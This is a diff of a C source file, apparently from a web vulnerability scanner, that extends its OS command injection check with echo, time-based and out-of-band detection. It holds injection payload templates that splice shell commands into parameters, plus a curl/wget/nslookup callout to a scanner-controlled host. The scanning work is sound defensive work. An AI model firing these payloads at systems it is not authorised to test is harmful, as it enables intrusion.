@@ -1,90 +1,162 @@
-/* Active: input reaches a shell (CWE-78). The shell is asked to print the sum of two
- * random numbers between two random words; the request never contains the sum, so a
- * page that merely repeats its input cannot pass. A second run with fresh numbers
- * makes it certain. */
+/* Active: input reaches a shell (CWE-78). The shell is asked to print a sum of two random
+ * numbers between two random words; the request never contains the sum, so a page that
+ * merely repeats its input cannot pass. Where nothing is printed, it is asked to wait
+ * (timing.h) or to call us (oob.h). One request serves the ways of quoting. */
 #include "scan/checks/active_private.h"
+#include "scan/oob.h"
+#include "scan/timing.h"
 
-/* %1 and %2 are numbers, a and b words. `pre` ends the command before it. */
-static const char *const forms[] = {
-	";%s;",   "|%s",      "&&%s&&", "`%s`",     "$(%s)", "\n%s\n",
-	"';%s;'", "\";%s;\"", "'|%s|'", "\"|%s|\"", "&%s&",  "||%s||",
+/* {0} the value, {1} the command, {2} the same without blanks, {3} expr, {4} for Windows. */
+static const struct form {
+	const char *text;
+	enum scan_mode from;
+	enum { FRAMED, BARE } answer; /* words around the sum, or the sum alone */
+} forms[] = {
+	{ "{0};{1};#';{1};#\";{1};#", SCAN_STANDARD, FRAMED },
+	{ "{0}|{1} #'|{1} #\"|{1} #", SCAN_STANDARD, FRAMED },
+	{ "{0}$({2})", SCAN_STANDARD, FRAMED },
+	{ "{0}`{2}`", SCAN_STANDARD, FRAMED },
+	{ "{0}\n{1}\n#'\n{1}\n#\"\n{1}\n#", SCAN_STANDARD, FRAMED },
+	{ "{0}&&{2}&&{2}'&&{2}&&{2}\"&&{2}&&{2}", SCAN_STANDARD, FRAMED },
+	{ "{0}&{4}&'&{4}&\"&{4}&", SCAN_STANDARD, BARE },
+	{ "{0};{3};#';{3};#\";{3};#", SCAN_STANDARD, BARE },
+	{ "{0}|{3}", SCAN_DEEP, BARE },
+	{ "{0}|{2}", SCAN_STANDARD, FRAMED },
+	{ "{0};{2};", SCAN_DEEP, FRAMED },
+	{ "{0}||{1}||'||{1}||\"||{1}||", SCAN_STANDARD, FRAMED },
+	{ "{0}'$({2})'", SCAN_STANDARD, FRAMED },
+	{ "{0}'`{2}`'", SCAN_DEEP, FRAMED },
+	{ "{0}&{1}&'&{1}&\"&{1}&", SCAN_DEEP, FRAMED },
+	{ "{0}|{4}|'|{4}|\"|{4}", SCAN_DEEP, BARE },
+	{ "{0}');{1};#\");{1};#", SCAN_DEEP, FRAMED },
+	{ "{1}", SCAN_STANDARD, FRAMED },
+	{ "{0}\n{2}\n", SCAN_DEEP, FRAMED },
 };
-#define STANDARD_FORMS 8
 
-struct shot {
-	struct str command, answer;
-};
-
-static struct shot make_shot(struct probe *p, bool windows)
+static struct str render_echo(struct probe *p, const struct form *f, struct str *want)
 {
-	struct str a = probe_word(p, 5), b = probe_word(p, 5);
-	uint32_t x = probe_number(p, 10000, 40000), y = probe_number(p, 10000, 40000);
-	struct shot s;
-
-	if (windows)
-		s.command = probe_printf(p, "cmd /v /c \"set /a z=%u+%u>nul&echo %.*s!z!%.*s\"", x,
-					 y, STR_ARG(a), STR_ARG(b));
-	else
-		s.command = probe_printf(p, "echo %.*s$((%u+%u))%.*s", STR_ARG(a), x, y,
-					 STR_ARG(b));
-	s.answer = probe_printf(p, "%.*s%u%.*s", STR_ARG(a), x + y, STR_ARG(b));
-	return s;
+	struct active_sum s = active_numbers(p);
+	uint32_t x = probe_number(p, 100000007, 400000009), y = probe_number(p, 100000007, 400000009);
+	struct str args[] = {
+		probe_point(p)->value,
+		probe_printf(p, "echo %.*s$((%.*s+%.*s))%.*s", STR_ARG(s.left), STR_ARG(s.a), STR_ARG(s.b), STR_ARG(s.right)),
+		probe_printf(p, "echo${IFS}%.*s$((%.*s+%.*s))%.*s", STR_ARG(s.left), STR_ARG(s.a), STR_ARG(s.b),
+			     STR_ARG(s.right)),
+		probe_printf(p, "expr %u + %u", x, y),
+		probe_printf(p, "set /a %u+%u", x, y),
+	};
+	*want = f->answer == FRAMED ? probe_printf(p, "%.*s%.*s%.*s", STR_ARG(s.left), STR_ARG(s.sum), STR_ARG(s.right))
+				    : probe_printf(p, "%u", x + y);
+	return active_fill(p, f->text, args);
 }
 
-static struct str fill(struct probe *p, const char *form, struct str command)
+static struct str fire(struct probe *p, const struct form *f, const struct scan_exchange **ret)
 {
-	struct str f = str_c(form);
-	ssize_t at = str_find(f, STR("%s"));
-
-	return probe_printf(p, "%.*s%.*s%.*s", STR_ARG(str_sub(f, 0, (size_t)at)), STR_ARG(command),
-			    STR_ARG(str_from(f, (size_t)at + 2)));
+	struct str want, sent = render_echo(p, f, &want);
+	return probe_value(p, sent, ret) < 0 ? STR_NULL : active_find(*ret, want);
 }
 
-/* The answer's place in the page, .ptr NULL when it is not there. */
-static struct str fire(struct probe *p, const char *form, bool windows,
-		       const struct scan_exchange **ret)
-{
-	struct shot s = make_shot(p, windows);
-
-	if (probe_append(p, fill(p, form, s.command), ret) < 0)
-		return STR_NULL;
-	struct str t = active_content(*ret);
-	ssize_t at = str_find(t, s.answer);
-
-	return at < 0 ? STR_NULL : str_sub(t, (size_t)at, (size_t)at + s.answer.len);
-}
-
-static bool try_form(struct probe *p, const char *form, bool windows)
+static bool try_form(struct probe *p, const struct form *f)
 {
 	const struct scan_exchange *x, *again;
-	struct str proof = fire(p, form, windows, &x);
-
+	struct str proof = fire(p, f, &x);
 	if (!proof.ptr)
 		return false;
-	bool sure = fire(p, form, windows, &again).ptr != NULL;
-
-	probe_report(p, &(struct scan_report){ .exchange = x,
-					       .proof = proof,
-					       .confidence_set = true,
-					       .confidence = sure ? CONFIDENCE_CERTAIN
-								  : CONFIDENCE_FIRM });
+	bool sure = fire(p, f, &again).ptr != NULL;
+	probe_report(p, &(struct scan_report){
+				.exchange = x,
+				.proof = proof,
+				.confidence_set = true,
+				.confidence = sure ? CONFIDENCE_CERTAIN : CONFIDENCE_FIRM,
+				.detail_zh = STR("参数中附加的命令被执行：响应里出现了只有操作系统命令才能算出的随机数之和。"),
+				.detail_en = STR("A command added to the parameter was run: the answer holds the sum of random numbers "
+						 "that only a shell could have computed."),
+			});
 	return true;
+}
+
+/* ---- without output ---- */
+
+static const struct wait_form {
+	const char *text; /* {0} the value, {1} seconds, {2} pings */
+	enum scan_mode from;
+} waits[] = {
+	{ "{0};sleep {1};#';sleep {1};#\";sleep {1};#", SCAN_STANDARD },
+	{ "{0}$(sleep {1})", SCAN_STANDARD },
+	{ "{0}|sleep {1} #'|sleep {1} #\"|sleep {1} #", SCAN_STANDARD },
+	{ "{0}\nsleep {1}\n#'\nsleep {1}\n#\"\nsleep {1}\n#", SCAN_DEEP },
+	{ "{0}`sleep {1}`", SCAN_DEEP },
+	{ "{0}'$(sleep {1})'", SCAN_DEEP },
+	{ "{0}&&sleep${IFS}{1}&&'&&sleep${IFS}{1}&&'", SCAN_DEEP },
+	{ "{0}||sleep {1}||'||sleep {1}||\"||sleep {1}||", SCAN_DEEP },
+	{ "{0}&ping -n {2} 127.0.0.1&'&ping -n {2} 127.0.0.1&\"&ping -n {2} 127.0.0.1&", SCAN_DEEP },
+};
+
+static void render_wait(struct probe *p, void *ctx, unsigned seconds, struct scan_mutation *m)
+{
+	const struct wait_form *w = ctx;
+	struct str args[] = { probe_point(p)->value, probe_printf(p, "%u", seconds), probe_printf(p, "%u", seconds + 1) };
+	m->value = active_fill(p, w->text, args);
+	m->value_set = true;
+}
+
+static bool try_waiting(struct probe *p)
+{
+	struct timing t;
+	for (size_t i = 0; i < ARRAY_SIZE(waits); i++) {
+		struct wait_form w = waits[i];
+		if (w.from > probe_mode(p) || !probe_time_dependent(p, render_wait, &w, &t))
+			continue;
+		probe_report(p, &(struct scan_report){
+					.exchange = t.x,
+					.proof = t.sent,
+					.confidence_set = true,
+					.confidence = CONFIDENCE_CERTAIN,
+					.detail_zh = probe_printf(p, "参数中附加的等待命令被执行。%.*s", STR_ARG(timing_zh(p, &t))),
+					.detail_en = probe_printf(p, "A command to wait, added to the parameter, was run. %.*s",
+								  STR_ARG(timing_en(p, &t))),
+				});
+		return true;
+	}
+	return false;
+}
+
+static void try_calling(struct probe *p)
+{
+	static const char *const calls[] = { "{0};{1};#';{1};#\";{1};#", "{0}$({1})", "{0}|{1} #'|{1} #\"|{1} #",
+					     "{0}&{2}&'&{2}&\"&{2}&", "{0}\n{1}\n" };
+	size_t n = probe_mode(p) == SCAN_DEEP ? ARRAY_SIZE(calls) : 3;
+	for (size_t i = 0; i < n; i++) {
+		struct scan_oob_name name;
+		const struct scan_exchange *x;
+		if (!probe_oob_host(p, &name))
+			return;
+		struct str args[] = {
+			probe_point(p)->value,
+			probe_printf(p, "(curl -s -m 3 %.*s||wget -q -T 3 -O- %.*s||nslookup %.*s)", STR_ARG(name.url),
+				     STR_ARG(name.url), STR_ARG(name.host)),
+			probe_printf(p, "nslookup %.*s", STR_ARG(name.host)),
+		};
+		struct str sent = active_fill(p, calls[i], args);
+		if (probe_value(p, sent, &x) < 0)
+			return;
+		probe_oob_expect(p, name.token, SCAN_OOB_DNS | SCAN_OOB_HTTP,
+				 &(struct scan_report){ .exchange = x, .proof = sent,
+							.detail_zh = STR("参数中附加的命令被执行。"),
+							.detail_en = STR("A command added to the parameter was run.") });
+	}
 }
 
 static void probe_shell(struct probe *p, const struct scan_point *pt)
 {
 	bool deep = probe_mode(p) == SCAN_DEEP;
-	size_t n = deep ? ARRAY_SIZE(forms) : STANDARD_FORMS;
-
-	if (pt->where == WHERE_HEADER && !deep)
+	if (probe_reported(p) || (pt->where == WHERE_HEADER && !deep) || (probe_sqli_found(p) && !deep))
 		return;
-	for (size_t i = 0; i < n && !probe_reported(p); i++)
-		if (try_form(p, forms[i], false))
+	for (size_t i = 0; i < ARRAY_SIZE(forms) && !probe_reported(p); i++)
+		if (forms[i].from <= probe_mode(p) && try_form(p, &forms[i]))
 			return;
-	if (!deep || probe_reported(p))
-		return;
-	if (!try_form(p, "&%s&", true))
-		try_form(p, "\"&%s&\"", true);
+	if (probe_oob_ready(p))
+		try_calling(p);
 }
 
 const struct scan_check check_command_injection = {
@@ -97,4 +169,25 @@ const struct scan_check check_command_injection = {
 	.modes = SCAN_STANDARD_UP,
 	.place = PLACE_POINT,
 	.on_point = probe_shell,
+};
+
+/* Its own check, so that it comes after everything that does not hold up the scan. */
+static void probe_blind(struct probe *p, const struct scan_point *pt)
+{
+	if (probe_point_found(p, "command-injection") || probe_sqli_found(p) || pt->where == WHERE_PATH ||
+	    (pt->where == WHERE_HEADER && probe_mode(p) != SCAN_DEEP))
+		return;
+	try_waiting(p);
+}
+
+const struct scan_check check_command_injection_time = {
+	.id = "command-injection-time",
+	.title_zh = "操作系统命令注入（时间型）",
+	.title_en = "OS command injection (time based)",
+	.severity = SEVERITY_CRITICAL,
+	.cwe = 78,
+	.owasp = "A03:2021",
+	.modes = SCAN_STANDARD_UP,
+	.place = PLACE_POINT,
+	.on_point = probe_blind,
 };
